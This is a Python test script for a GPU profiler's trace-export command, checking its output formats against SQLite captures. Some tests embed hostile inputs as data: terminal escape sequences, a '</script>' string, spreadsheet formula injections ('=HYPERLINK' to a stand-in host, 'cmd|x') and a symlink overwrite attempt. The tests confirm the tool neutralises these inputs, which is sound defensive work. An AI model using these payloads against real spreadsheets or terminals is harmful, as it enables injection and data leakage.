#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""export CLIENT RECORDING SOURCE: what gpuctr-client export makes of the bundled recording, and of captures that were made
worse than it: launches at one time, on many threads, out of order, without ranges, without values.

The trace is checked against all that HolisticTraceAnalysis needs to give each kernel its counters and operators
(check_trace), by nothing but this file and SQL."""

import collections
import csv
import gzip
import json
import os
import pathlib
import re
import shutil
import sqlite3
import subprocess
import sys

sys.dont_write_bytecode = True
from checks import change, check, run_tests, with_budget  # noqa: E402

CLIENT, RECORDING, SOURCE = (pathlib.Path(a).resolve() for a in sys.argv[1:4])
COLUMNS = ("dram__bytes_read.sum", "dram__bytes_write.sum", "gpu__time_duration.sum", "lts__t_sectors.sum",
           "lts__t_requests.sum")
NO_RANGE = "(no NVTX range)"
PID = 596
BEGIN_NS = 1795396518950148788


def export(*arguments, status=0, says=b"", **more):
    r = subprocess.run([CLIENT, "export", *map(str, arguments)], capture_output=True, timeout=100, check=False, **more)
    check(r.returncode == status and says in r.stderr and bool(r.stderr) == bool(says),
          f"{arguments}: {r.returncode} {r.stderr!r}")
    return r.stdout


# --- the trace --------------------------------------------------------------------------------------


def operator(message):
    """The name in a range's message."""
    return re.split(r", (?:seq|op_id|sizes) = ", message)[0]


def records(path, process=1):
    """Of a capture: index, kernel, correlation, thread, device, stream, start, duration, ranges, kind, values."""
    db = sqlite3.connect(path)
    ranges = {row[0]: row[1:] for row in
              db.execute("SELECT id, parent, message, domain FROM range WHERE process = ?", (process,))}
    query = (f"SELECT idx, k.name, correlation, thread, device, stream, start_ns, duration_ns, range, r.kind,"
             f" {','.join(chr(34) + c + chr(34) for c in COLUMNS)} FROM record r LEFT JOIN kernel k"
             " ON k.process = r.process AND k.id = r.kernel WHERE r.process = ? ORDER BY idx")
    rows = []
    for row in db.execute(query, (process,)):
        path_of, at = [], row[8]
        while at:
            at, message, domain = ranges[at]
            path_of.append((domain + ":" if domain else "") + operator(message))
        rows.append(row[:8] + (path_of[::-1], row[9], dict(zip(COLUMNS, row[10:]))))
    db.close()
    return rows


def spans(trace, category):
    found = [e for e in trace["traceEvents"] if e.get("cat") == category]
    for e in found:
        check(e["ph"] == "X" and {"name", "pid", "tid", "ts", "dur"} <= set(e), f"{category}: {e}")
    return found


def check_order(events, what):
    """Sorting by ts, however unstable, gives the order of launches."""
    ts = [e["ts"] for e in events]
    check(all(a < b for a, b in zip(ts, ts[1:])), f"{what}: not in the order of the launches")
    check(all(type(e["ts"]) is int and type(e["dur"]) is int and e["dur"] > 0 for e in events), f"{what}: whole us")


def check_counters(events, want, what):
    for e, (_, kernel, _, _, device, _, _, _, _, _, values) in zip(events, want):
        check(e["name"] == (kernel or "na") and (e["pid"], e["tid"]) == (device, 0), f"{what}: {e}")
        check(all(type(v) in (int, float) for v in e["args"].values()), f"{what}: arguments are not numbers: {e}")
        got = {k: v for k, v in e["args"].items() if not k.startswith("gpuctr::")}
        check(got == {k: v for k, v in values.items() if v is not None}, f"{what}: other values: {e}")


def check_launches(events, want, what):
    for e, (_, _, correlation, thread, *_, kind, _) in zip(events, want):
        check(e["name"] == "cudaLaunchKernel" and e["tid"] == thread and e["args"]["correlation"] == correlation and
              e["args"].get("gpuctr::kind") == (None, "cooperative", "graph", "graph_kernel")[kind], f"{what}: {e}")


def stacks(operators, launches, what):
    """The names of the spans around each launch, outermost first; spans of a thread nest strictly."""
    threads = collections.defaultdict(list)
    for e in operators + launches:
        threads[e["pid"], e["tid"]].append(e)
    found = {}
    for events in threads.values():
        events.sort(key=lambda e: e["ts"])
        around = []
        for e in events:
            while around and around[-1]["ts"] + around[-1]["dur"] <= e["ts"]:
                around.pop()
            end = e["ts"] + e["dur"]
            check(not around or (around[-1]["ts"] < e["ts"] and end < around[-1]["ts"] + around[-1]["dur"]),
                  f"{what}: spans overlap: {around[-1:]} {e}")
            if e["cat"] == "cuda_runtime":
                found[e["ts"]] = [o["name"] for o in around]
            else:
                around.append(e)
    return [found.get(e["ts"], []) for e in launches]


def check_kernels(trace, want, what):
    """On the tracks of streams: exact times."""
    base = trace["baseTimeNanoseconds"]
    got = sorted((e["pid"], e["tid"], round(e["ts"] * 1000) + base, round(e["dur"] * 1000), e["args"]["correlation"])
                 for e in spans(trace, "kernel"))
    expected = sorted((device, stream, start, duration, correlation)
                      for _, _, correlation, _, device, stream, start, duration, *_ in want if duration >= 0)
    check(got == expected, f"{what}: kernels' times")


def check_trace(path, rank=0, arguments=(), process=1):
    text = export(path, "--to", "chrome", *arguments)
    trace = json.loads(text)
    want = records(path, process)
    check(trace["distributedInfo"]["rank"] == rank, f"{path}: rank")
    check(re.search(rb'"rank": (\d+)', text)[1] == b"%d" % rank, f"{path}: rank, as HTA looks for it")
    ranges, launches, operators = (spans(trace, c) for c in ("cuda_profiler_range", "cuda_runtime", "cpu_op"))
    check(len(ranges) == len(launches) == len(want), f"{path}: {len(ranges)} ranges, {len(launches)} launches")
    for events, what in ((ranges, "ranges"), (launches, "launches")):
        check_order(events, f"{path}: {what}")
    check_counters(ranges, want, path)
    check_launches(launches, want, path)
    check(all(type(e["ts"]) is int and type(e["dur"]) is int for e in operators), f"{path}: whole us of operators")
    for got, row in zip(stacks(operators, launches, path), want):
        check(got == (row[8] or [NO_RANGE]), f"{path}: launch {row[0]} is in {got}, not {row[8]}")
    check_kernels(trace, want, path)
    end = trace["gpuctr_end"]
    check(end["records"] == len(want), f"{path}: end")
    return trace


def the_recording():
    trace = check_trace("run.gpuctr")
    end = trace["gpuctr_end"]
    check(end["complete"] and end["seen"] == 3240 and end["measured"] == 716, "counts at the end")
    check(end["delayed"] == 0, "launches are shown later than they were")
    check(check_trace("run.gpuctr", 5, ("--rank", 5)) is not None, "rank")
    names = {(e["name"], e["pid"], e["tid"]): e["args"]["name"] for e in trace["traceEvents"]
             if e["ph"] == "M" and "name" in e["args"]}
    check(names[("process_name", 0, 0)] == "GPU 0: NVIDIA H200" and names[("thread_name", 0, 7)] == "stream 7", "names")
    shapes = [e["args"]["Input Dims"] for e in trace["traceEvents"] if "Input Dims" in e.get("args", {})]
    check(len(shapes) > 1000 and [[64, 3, 224, 224], [64, 3, 7, 7], [], [], [], [], []] in shapes, f"{len(shapes)} shapes")


def worse_captures():
    check_trace(change("tie.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS}"))
    check_trace(change("back.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} - idx * 1000"))
    check_trace(change("dense.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} + idx * 700"))
    check_trace(change("threads.gpuctr", "UPDATE record SET thread = idx % 5, stream = idx % 3 + 7"))
    check_trace(change("jumps.gpuctr", "UPDATE record SET range = (idx * 389) % 900 + 1, thread = idx % 2"))
    check_trace(change("bare.gpuctr", "UPDATE record SET range = 0 WHERE idx % 7 < 3"))
    check_trace(change("none.gpuctr", "UPDATE record SET range = 0"))
    check_trace(change("null.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = NULL WHERE idx % 2',
                       "UPDATE record SET duration_ns = -1, clock = 0 WHERE idx % 3 = 0"))
    check_trace(change("graph.gpuctr", "UPDATE record SET kind = idx % 4"))
    check_trace(change("empty.gpuctr", "DELETE FROM record"))


def wild_values():
    """No number breaks the trace or the order of its launches."""
    path = change("wild.gpuctr", "UPDATE record SET start_ns = 9223372036854775807 WHERE idx = 3",
                  "UPDATE record SET start_ns = -9223372036854775807 WHERE idx = 9",
                  "UPDATE record SET duration_ns = 9223372036854775807 WHERE idx = 5",
                  f'UPDATE record SET "{COLUMNS[0]}" = 9e999 WHERE idx = 11',
                  "UPDATE meta SET value = -9223372036854775807 WHERE key = 'created_ns'")
    trace = json.loads(export(path, "--to", "chrome"))
    for category in ("cuda_profiler_range", "cuda_runtime"):
        check(len(spans(trace, category)) == 716, f"wild: {category}")
        check_order(spans(trace, category), f"wild: {category}")
    check(COLUMNS[0] not in spans(trace, "cuda_profiler_range")[11]["args"], "a value that is no number")
    lines = [len(export(p, "--to", "folded").splitlines()) for p in (path, "run.gpuctr")]
    check(lines[0] == lines[1] > 50, f"wild: folded: {lines}")
    for line in export(path, "--to", "jsonl").splitlines():
        json.loads(line)


def hostile_names():
    evil = "=X(\"y\")\x1b]0;t\x07\u202e\nnext \x9b </script>; 1"
    path = change("evil.gpuctr", ("UPDATE kernel SET name = ? WHERE id = 1", (evil,)),
                  ("UPDATE range SET message = ? WHERE id = 5", (evil,)), ("UPDATE process SET program = ?", (evil,)))
    trace = check_trace(path)
    check(any(e["name"] == evil for e in spans(trace, "kernel")), "the name is another one")
    for line in export(path, "--to", "folded").decode().splitlines():
        check(re.fullmatch(r"[^\x00-\x1f\x7f-\x9f\u202e]+ [0-9]+", line), f"folded: {line!r}")


def several_processes():
    """Each process alone is a trace for HTA; all together are one to look at."""
    path = change("two.gpuctr", *(f"INSERT INTO {table} SELECT 2, {columns} FROM {table} WHERE process = 1" for
                                  table, columns in (("device", "idx, uuid, name, chip, clock_sm_mhz, clock_mem_mhz"),
                                                     ("kernel", "id, name, mangled, static_shared_bytes, registers"))),
                  "INSERT INTO process SELECT 2, 4711, 'other', cupti, driver, recorded_from, 1, 1, 0, 0, 0, 0, 0, 0, 0,"
                  " 0, 0 FROM process", f"UPDATE record SET id = (2 << 40) + idx - 400, process = 2, idx = idx - 400, range = 0 WHERE idx >= 400")
    check_trace(path, 0, ("--process", 1))
    check_trace(path, 1, ("--process", 2, "--rank", 1), 2)
    trace = json.loads(export(path, "--to", "chrome", says=b"--process N"))
    check(len(spans(trace, "cuda_profiler_range")) == 716, "records of both")
    check({e["pid"] for e in spans(trace, "cpu_op")} == {PID, 4711}, "a track of each")
    check(len({e["pid"] for e in spans(trace, "kernel")}) == 2, "devices are counted by each process")
    lines = export(path, "--to", "folded").decode().splitlines()
    check(any(s.startswith("other (4711);") for s in lines), "folded: the process is a frame")


def perfetto_opens_the_chrome_trace():
    """Perfetto's own format is refused by its name and by a file's, with what to export instead."""
    for arguments in (("--to", "perfetto"), ("-o", "a.pftrace"), ("-o", "a.perfetto-trace")):
        r = subprocess.run([CLIENT, "export", "run.gpuctr", *arguments], capture_output=True, timeout=100, check=False)
        check(r.returncode == 2 and not r.stdout and b"--to chrome -o trace.json" in r.stderr, f"{arguments}: {r.stderr!r}")
    check(not list(pathlib.Path(".").glob("a.p*")), "a file is left")


# --- folded stacks ----------------------------------------------------------------------------------


def folded_sums():
    for weight, column in (("time", "duration_ns"), (COLUMNS[0], COLUMNS[0]), ("write", COLUMNS[1])):
        want = collections.Counter()
        column = -1 if column == "duration_ns" else column
        for row in records("run.gpuctr"):
            want[";".join(row[8] + [row[1]]).replace("\n", "?")] += row[7] if column == -1 else row[10][column]
        got = {}
        for line in export("run.gpuctr", "--to", "folded", "--weight", weight).decode().splitlines():
            stack, value = line.rsplit(" ", 1)
            check(stack not in got, f"folded: twice: {stack}")
            got[stack] = int(value)
        check(got == dict(want), f"folded by {weight} is another sum than SQL's")
    part = change("part.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = 0.75')
    for line in export(part, "--to", "folded", "--weight", COLUMNS[0]).decode().splitlines():
        check(line.rsplit(" ", 1)[1].isdigit(), f"folded: flamegraph.pl wants whole numbers: {line}")
    export("run.gpuctr", "--to", "folded", "--weight", "dram", status=2, says=b"more than one counter")
    export("run.gpuctr", "--to", "folded", "--weight", "l2", status=2, says=b"no counter")
    export(change("nulls.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = NULL WHERE idx < 9'), "--to", "folded",
           "--weight", COLUMNS[0], says=b"9 kernels are not in it")
    chosen = change("chosen.gpuctr", "INSERT INTO meta VALUES('budget_ppm', 20000)")
    check(export(chosen, "--to", "folded", says=b"those that were measured") == export("run.gpuctr", "--to", "folded"),
          "folded: a budget, and nothing to estimate by")
    lines = export(change("alike.gpuctr", "UPDATE range SET message = 'a' || CASE id % 3 WHEN 0 THEN ';' WHEN 1 THEN ',' ELSE char(7)"
                          " END WHERE depth = 0"), "--to", "folded").decode().splitlines()
    check({s.split(";")[0] for s in lines} == {"a,", "a?"}, "folded: names that are written alike are one")
    check(len(lines) == len({s.rsplit(" ", 1)[0] for s in lines}), "folded: a line twice")


def told_by_kernel(path):
    """What report says of all launches of each kernel: how many, and sums, NULL where nothing is known."""
    r = subprocess.run([CLIENT, "report", path, "--json"], capture_output=True, timeout=100, check=True)
    return {row["key"]["kernel"]: (row["launches"], {name: m.get("sum") for name, m in row["measures"].items()})
            for row in json.loads(r.stdout)["rows"]}


def close(a, b):
    return abs(a - b) <= 1e-9 * max(abs(a), abs(b))


def sums_with_a_budget(strata):
    """Of each kernel all lines together say what the table does, not what was measured; what was measured nowhere is not
    put where something was. The kernels whose places are not known."""
    with_budget("half.gpuctr", 2, strata)
    told, measured = told_by_kernel("half.gpuctr"), told_by_kernel(change("part.gpuctr", "DELETE FROM record WHERE idx % 2"))
    never = [k for k in told if k not in measured]
    check(never and sum(told[k][1]["time"] > 1.3 * measured[k][1]["time"] for k in measured) > 10, "nothing to be estimated")
    for weight in ("time", COLUMNS[0]):
        got, lines_of, nowhere = collections.Counter(), collections.Counter(), set()
        for line in export("half.gpuctr", "--to", "folded", "--weight", weight, says=b"ESTIMATED").decode().splitlines():
            stack, value = line.rsplit(" ", 1)
            kernel = stack[stack.rindex(";void "):][1:] if ";void " in stack else stack.rsplit(";", 1)[1]
            got[kernel] += int(value)
            lines_of[kernel] += 1
            if stack.startswith("(none of its kind was measured);"):
                nowhere.add(kernel)
        for kernel, (_, sums) in told.items():
            written = got.get(kernel.replace("\n", "?"))
            check(written is None if sums[weight] is None else written is not None and abs(written - sums[weight]) <= lines_of[kernel.replace("\n", "?")] / 2 + 1,
                  f"folded by {weight}: {kernel}: {written}, not {sums[weight]}")
        check(strata != "kernel" or nowhere <= set(never), f"folded: {nowhere - set(never)} were measured")
    written = prof("run.gpuctr", "-c", "kernel")
    bare = {row[1]: line["kernel"] for row, line in zip(records("run.gpuctr"), written)}
    for columns in ("kernel,sil,launches,bytes", "idx,dir,sub,mod,op,kernel,params,sil,bytes,launches"):
        got = collections.defaultdict(lambda: [0, 0, 0])
        lines = prof("half.gpuctr", "-c", columns, says=b"ESTIMATED")
        for line in lines:
            for i, column in enumerate(("launches", "sil", "bytes")):
                got[line["kernel"]][i] += int(line[column]) if line[column] != "na" else 0
        want = collections.defaultdict(lambda: [0, 0, 0])
        for kernel, (launches, sums) in told.items():
            short = bare[kernel]
            for i, value in enumerate((launches, sums["time"] or 0, (sums[COLUMNS[0]] or 0) + (sums[COLUMNS[1]] or 0))):
                want[short][i] += value
        check(set(got) == set(want), f"pyprof: other kernels: {set(got) ^ set(want)}")
        for kernel, values in want.items():
            check(all(abs(a - b) <= len(lines) for a, b in zip(got[kernel], values)), f"pyprof: {kernel}: {got[kernel]}, not {values}")
    check([line["idx"] for line in lines] == [str(i + 1) for i in range(len(lines))] and len(lines) < 358, "pyprof: numbers of lines")
    return nowhere


def sums_with_a_budget_are_the_reports():
    check(sums_with_a_budget("kernel") == set(), "kernels that are one kind, or none")
    check(len(sums_with_a_budget("kernel, grid_x, range % 3")) > 2, "kinds of which none was measured")
    check({line["launches"] for line in prof("run.gpuctr", "-c", "idx,launches")} == {"1"}, "pyprof: a launch is one")


# --- the lines of PyProf ------------------------------------------------------------------------------

TWENTY = "idx seq altseq tid layer trace dir sub mod op kernel params sil tc device stream grid block flops bytes".split()
HEADS = ("Idx SeqId AltSeqId TId Layer Trace Direction Sub Module Op Kernel Params Sil(ns) TC Device Stream Grid Block"
         " FLOPs Bytes").split()
HMMA = "sm__ops_path_tensor_src_bf16_dst_fp32.sum"


def prof(path, *arguments, says=b""):
    """The lines by column, of the format that has no spaces in its fields."""
    lines = [s.split(" ") for s in export(path, "--to", "pyprof", *arguments, says=says).decode().splitlines()]
    names = [[*TWENTY, "launches"][[*HEADS, "Launches"].index(h)] for h in lines[0]]
    check(all(len(s) == len(names) and all(s) for s in lines), f"{path}: pyprof: fields")
    return [dict(zip(names, s)) for s in lines[1:]]


def numbers(path_of_messages):
    return [int(n) for m in path_of_messages for n in re.findall(r", seq = (\d+)", m)]


def messages(path):
    """Of the ranges around each launch, innermost first."""
    db = sqlite3.connect(path)
    ranges = {row[0]: row[1:] for row in db.execute("SELECT id, parent, message FROM range")}
    found = []
    for (at,) in db.execute("SELECT range FROM record ORDER BY idx"):
        around = []
        while at:
            at, message = ranges[at]
            around.append(message)
        found.append(around)
    db.close()
    return found


def check_measured(lines, want, what):
    """What a record says itself."""
    db = sqlite3.connect("run.gpuctr")
    shapes = db.execute("SELECT grid_x, grid_y, grid_z, block_x, block_y, block_z FROM record ORDER BY idx").fetchall()
    db.close()
    for line, row, shape in zip(lines, want, shapes):
        index, _, _, thread, device, stream, _, duration, _, _, values = row
        got = [int(line[c]) for c in ("idx", "tid", "device", "stream", "sil")]
        check(got == [index, thread, device, stream, duration], f"{what}: {line}")
        check(float(line["bytes"]) == values[COLUMNS[0]] + values[COLUMNS[1]], f"{what}: bytes: {line}")
        check(line["grid"] + "," + line["block"] == ",".join(map(str, shape)), f"{what}: shape: {line}")


def check_operators(lines, around):
    """A line has the outermost operator that shows its number, in both directions; without a number, the innermost."""
    forward = collections.defaultdict(set)
    for line, path in zip(lines, around):
        operators = [m for m in path if "::" in operator(m)]
        if line["dir"] == "fprop":
            check(line["seq"] == str((numbers(operators) or ["-"])[0]), f"pyprof: seq: {line} {operators}")
            called = [m for m in operators if str(numbers([m])) == f"[{line['seq']}]"][-1:] or operators[:1]
            check(line["mod"] + "::" + line["op"] == operator(called[0]), f"pyprof: operator: {line}")
            sizes = re.sub(r"(,\[\])+$", "", re.search(r", sizes = \[(.*?)\](?:, input_op_ids|$)", called[0])[1].replace(" ", ""))
            check(line["params"] == sizes or line["params"].endswith(".."), f"pyprof: params: {line} {sizes}")
            forward[line["seq"]].add((line["op"], line["params"]))
        others = {n for n in numbers(path) if str(n) != line["seq"]}
        check({int(n) for n in line["altseq"].split(",") if n != "-"} == others, f"pyprof: altseq: {line} {path}")
    backward = [s for s in lines if s["dir"] == "bprop" and s["seq"] in forward and s["seq"] != "-"]
    check(len(backward) > 100, "pyprof: nothing is joined to the forward pass")
    for line in backward:
        check((line["op"], line["params"]) in forward[line["seq"]], f"pyprof: {line}: forward it is {forward[line['seq']]}")
    named = [{s["op"] for s in lines if s["dir"] == d} for d in ("fprop", "bprop")]
    for op in "conv2d", "relu_", "batch_norm":
        check(op in named[0] and op in named[1], f"pyprof: no {op} in both directions: {named}")


def lines_of_pyprof():
    lines, want = prof("run.gpuctr", "-c", "all"), records("run.gpuctr")
    check(len(lines) == len(want) == 716 and list(lines[0]) == TWENTY, "pyprof: lines")
    check_measured(lines, want, "pyprof")
    check_operators(lines, messages("run.gpuctr"))
    check({s["trace"] for s in lines} | {s["tc"] for s in lines} | {s["flops"] for s in lines} == {"na"},
          "pyprof: what was not measured")
    check(list(prof("run.gpuctr")[0]) == "idx dir sub mod op kernel params sil".split(), "pyprof: usual columns")
    subs = collections.defaultdict(list)
    for s in lines:
        if s["seq"] != "-":
            subs[s["seq"], s["dir"]].append(int(s["sub"]))
    check(all(n == list(range(len(n))) for n in subs.values()), "pyprof: sub counts from 0")


def pyprof_of_tensor_cores():
    path = change("hmma.gpuctr", f'ALTER TABLE record RENAME COLUMN "{COLUMNS[2]}" TO "{HMMA}"',
                  f"UPDATE column_def SET name = '{HMMA}' WHERE idx = 2",
                  f'UPDATE record SET "{HMMA}" = CASE idx % 3 WHEN 0 THEN 0 WHEN 1 THEN 1024.0 END')
    lines = prof(path, "-c", "idx,tc,flops")
    for line in lines:
        want = (("0", "0"), ("1", "1024"), ("na", "na"))[int(line["idx"]) % 3]
        check((line["tc"], line["flops"]) == want, f"pyprof: {line}")
    columns = ", ".join(f'"{c}" REAL' for c in (*COLUMNS[:2], HMMA, *COLUMNS[3:]))
    shutil.copy(path, "sampled.gpuctr")
    db = sqlite3.connect("sampled.gpuctr")
    db.execute("INSERT INTO meta VALUES('sampled', 1)")
    db.execute(f"CREATE TABLE sampled(record INTEGER PRIMARY KEY, alike INTEGER NOT NULL, {columns})")
    db.execute(f'INSERT INTO sampled(record, alike, "{HMMA}") SELECT id, 0, CASE idx % 6 WHEN 0 THEN 0 WHEN 1 THEN 341 WHEN 3 THEN 9 WHEN 4 THEN 342 END FROM record')
    db.commit()
    db.close()
    for line in prof("sampled.gpuctr", "-c", "idx,tc", says=b"values are SAMPLED"):
        want = ("0", "1", "na", "na", "na", "na")[int(line["idx"]) % 6]
        check(line["tc"] == want, f"pyprof of samples: {line}")
    one = change("one.gpuctr", f'ALTER TABLE record RENAME COLUMN "{COLUMNS[1]}" TO "other__bytes.sum"',
                 "UPDATE column_def SET name = 'other__bytes.sum' WHERE idx = 1")
    check({s["bytes"] for s in prof(one, "-c", "bytes")} == {"na"}, "pyprof: bytes of one direction are not all")


def layouts_of_pyprof():
    columns = "kernel,params,idx,layer,sil"
    plain = prof("run.gpuctr", "-c", columns)
    quoted = list(csv.DictReader(export("run.gpuctr", "--to", "pyprof", "--csv", "-c", columns).decode().splitlines()))
    check([[s[HEADS[TWENTY.index(c)]] for c in columns.split(",")] for s in quoted] ==
          [[s[c] for c in columns.split(",")] for s in plain], "pyprof: CSV says something else")
    for width in (30, 31, 100, 500):
        lines = export("run.gpuctr", "--to", "pyprof", "-c", columns, "-w", width).decode().splitlines()
        share = (width - 7 - 10 - 10) // 2
        check({len(s) for s in lines} == {2 * share + 7 + 10 + 10 + 5}, f"pyprof: width {width}")
        check(lines[1].split()[0] == plain[0]["kernel"][:share], f"pyprof: kernel at {width}")
    export("run.gpuctr", "--to", "pyprof", "-w", 56, status=2, says=b"these columns take 57 at least")
    export("run.gpuctr", "--to", "pyprof", "-w", 150, "--csv", status=2, says=b"not both")
    export("run.gpuctr", "--to", "pyprof", "-c", "idx,nothing", status=2, says=b"idx, seq, altseq")
    export("run.gpuctr", "--to", "csv", "-c", "idx", status=2, says=b"belong to --to pyprof")
    evil = "=X(\"y\")\x1b]0;t\x07\u202e\nnext \x9b </script>; 1"
    path = change("evil.gpuctr", ("UPDATE kernel SET name = ?", (evil,)), ("UPDATE range SET message = ?", (evil,)))
    check(len(prof(path, "-c", "all")) == 716, "pyprof: lines of hostile names")
    check(b"\x1b" not in export(path, "--to", "pyprof", "-c", "all"), "pyprof: an escape")
    check(len(prof(change("none.gpuctr", "DELETE FROM record"))) == 0, "pyprof: no kernels")


# --- files ------------------------------------------------------------------------------------------


def files():
    export("run.gpuctr", "-o", "a.json")
    check(pathlib.Path("a.json").read_bytes() == export("run.gpuctr", "--to", "chrome"), "a file")
    export("run.gpuctr", "-o", "a.json.gz")
    check(gzip.decompress(pathlib.Path("a.json.gz").read_bytes()) == pathlib.Path("a.json").read_bytes(), "a compressed file")
    pathlib.Path("a.json.gz").unlink()
    export("run.gpuctr", "-o", "a.json", status=2, says=b"-f replaces it")
    for name in ("a.js", "json", "a.gz", "a."):
        export("run.gpuctr", "-o", name, status=2, says=b"to what?")
    export("run.gpuctr", "-f", "-o", "a.json")
    export("-", "--to", "csv", stdin=open("run.gpuctr", "rb"))
    pathlib.Path("cut.gpuctr").write_bytes(pathlib.Path("run.gpuctr").read_bytes()[:1000000])
    export("cut.gpuctr", "-o", "cut.json", status=1, says=b"error[store-")
    export("cut.gpuctr", "-o", "cut.folded", status=1, says=b"error[store-")
    check(not pathlib.Path("cut.folded").exists(), "stacks of a file that is cut")
    change("late.gpuctr", "UPDATE record SET duration_ns = 'x' WHERE idx = 700")
    export("late.gpuctr", "-f", "-o", "a.json", status=1, says=b"error[store-corrupt]")
    check(json.loads(pathlib.Path("a.json").read_text())["gpuctr_end"]["records"] == 716, "the file before is gone")
    left = [p.name for p in pathlib.Path(".").iterdir() if ".json." in p.name or p.name == "cut.json"]
    check(not left, f"left behind: {left}")
    for arguments, message in ((["run.gpuctr"], b"to what?"), (["run.gpuctr", "--to", "xml"], b"not 'xml'"),
                               (["--to", "csv"], b"name one"), (["run.gpuctr", "--to", "csv", "--weight", "time"],
                                                               b"belongs to"),
                               (["run.gpuctr", "--to", "chrome", "--process", "9"], b"no process 9")):
        export(*arguments, status=2, says=message)
    change("growing.gpuctr", "UPDATE meta SET value = 0 WHERE key = 'complete'")
    export("growing.gpuctr", "--to", "chrome", says=b"warning[not-complete]")


def what_is_read_is_not_written():
    """By its own name, by another, by a link, as standard input: with -f the output would take the place of the input."""
    whole = pathlib.Path("run.gpuctr").read_bytes()
    shutil.copy("run.gpuctr", "mine.gpuctr")
    os.link("mine.gpuctr", "hard.gpuctr")
    os.symlink("mine.gpuctr", "soft.gpuctr")
    pathlib.Path("trace.json").write_bytes(export("run.gpuctr", "--to", "chrome"))
    trace = pathlib.Path("trace.json").read_bytes()
    says = b"this is the file that is read, and writing would replace it; give another name"
    for name in "mine.gpuctr", "./mine.gpuctr", "hard.gpuctr", "soft.gpuctr":
        export("mine.gpuctr", "--to", "csv", "-f", "-o", name, status=2, says=says)
        for command in (["report", "run.gpuctr", "mine.gpuctr", "--html", name, "-f"],
                        ["merge", "trace.json", "mine.gpuctr", "-o", name, "-f"]):
            r = subprocess.run([CLIENT, *command], capture_output=True, timeout=100, check=False)
            check(r.returncode == 2 and says in r.stderr, f"{command}: {r}")
    with open("mine.gpuctr", "rb") as stdin:
        export("-", "--to", "csv", "-f", "-o", "soft.gpuctr", stdin=stdin, status=2, says=says)
    r = subprocess.run([CLIENT, "merge", "trace.json", "run.gpuctr", "-o", "trace.json", "-f"], capture_output=True,
                       timeout=100, check=False)
    check(r.returncode == 2 and says in r.stderr, f"merge: {r}")
    check(pathlib.Path("mine.gpuctr").read_bytes() == whole and pathlib.Path("trace.json").read_bytes() == trace,
          "what was read is gone")
    shutil.copy("run.gpuctr", "other.gpuctr")
    export("mine.gpuctr", "--to", "csv", "-f", "-o", "other.gpuctr")


def a_link_chooses_nothing():
    """Who put a link where we write has not chosen what -f replaces; a link to a pipe or a device is followed."""
    pathlib.Path("victim").write_text("precious")
    os.symlink("victim", "to-file")
    os.symlink("nowhere", "to-nowhere")
    os.symlink("/dev/stdout", "to-stdout")
    for name in "to-file", "to-nowhere":
        for force in [], ["-f"]:
            export("run.gpuctr", "--to", "csv", *force, "-o", name, status=2, says=b"this is a link")
    check(pathlib.Path("victim").read_text() == "precious" and not os.path.exists("nowhere"), "a link was followed")
    check(os.path.islink("to-file") and os.path.islink("to-nowhere"), "a link was replaced")
    check(len(export("run.gpuctr", "--to", "csv", "-o", "to-stdout")) > 1000, "a link to a pipe was not followed")
    check(not [n for n in os.listdir(".") if n.startswith("to-") and "." in n], "a temporary file is left")


def a_file_that_comes_meanwhile_stays():
    """It was not there when we began, and -f was not given."""
    for force in [], ["-f"]:
        late = pathlib.Path("late.csv")
        late.unlink(missing_ok=True)
        with subprocess.Popen([CLIENT, "export", "-", "--to", "csv", *force, "-o", late], stdin=subprocess.PIPE,
                              stderr=subprocess.PIPE) as p:
            while not [n for n in os.listdir(".") if n.startswith("late.csv.")]:
                check(p.poll() is None, "no temporary file")
            late.write_text("precious")
            _, err = p.communicate(pathlib.Path("run.gpuctr").read_bytes(), timeout=100)
        if force:
            check(p.returncode == 0 and late.stat().st_size > 1000, f"with -f: {p.returncode} {err!r}")
        else:
            check(p.returncode == 1 and late.read_text() == "precious", f"replaced: {p.returncode} {err!r}")
        check(sorted(n for n in os.listdir(".") if n.startswith("late.csv")) == ["late.csv"], f"left: {os.listdir()}")


def a_stack_as_deep_as_the_file():
    """A million ranges within each other, which no program has: whatever reads them ends, and says what it says."""
    depth = 1_000_000
    path = change(
        "deep.gpuctr", "DELETE FROM range WHERE process = 1",
        ("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) INSERT INTO range"
         " SELECT 1, i, i - 1, '', 'r', '', 0, 0, 0, i - 1, 1 FROM n", (depth,)),
        "UPDATE record SET range = 0",
        ("UPDATE record SET range = ? WHERE process = 1 AND idx = (SELECT max(idx) FROM record)", (depth,)),
        "DELETE FROM mark")
    kept = 4096
    check(b",../" + b"/".join([b"r"] * kept) + b"," in export(path, "--to", "csv"), "csv: the inner ranges are not told")
    lines = export(path, "--to", "jsonl").split(b"\n")
    check(max(line.count(b'"message":"r"') for line in lines) == kept, "jsonl: the inner ranges are not told")
    for form in "chrome", "folded", "pyprof":
        export(path, "--to", form)
    r = subprocess.run([CLIENT, "report", path, "--by", "nvtx"], capture_output=True, timeout=100, check=False)
    check(r.returncode == 0 and b"r" in r.stdout, f"report of a deep stack: {r.returncode} {r.stderr!r}")


def formulas_are_text():
    """A spreadsheet computes what begins like a formula, and programs choose the names."""
    first = "=+-@"
    path = change("formulas.gpuctr",
                  ("UPDATE kernel SET name = substr(?, id % 4 + 1, 1) || 'HYPERLINK(\"http://x\"&A1)', mangled = '@x'", (first,)),
                  ("UPDATE range SET message = substr(?, id % 4 + 1, 1) || 'cmd|x', domain = ''", (first,)))
    for arguments in ["--to", "csv"], ["--to", "pyprof", "--csv", "-c", "kernel,op,layer,params,tc,seq"]:
        rows = list(csv.reader(export(path, *arguments).decode().splitlines()))
        fields = [f for row in rows for f in row]
        check(not [f for f in fields if len(f) > 1 and f[0] in first + "\t\r"], f"{arguments}: a formula")
        check(sum(f.startswith("'=HYPERLINK") for f in fields) > 0, f"{arguments}: names are gone")


def nobody_reads():
    read, write = os.pipe()
    os.close(read)
    r = subprocess.run([CLIENT, "export", "run.gpuctr", "--to", "chrome"], stdout=write, stderr=subprocess.PIPE,
                       check=False)
    os.close(write)
    check(r.returncode == 0 and r.stderr == b"", f"closed pipe: {r.returncode} {r.stderr!r}")
    with open("/dev/full", "wb") as full:
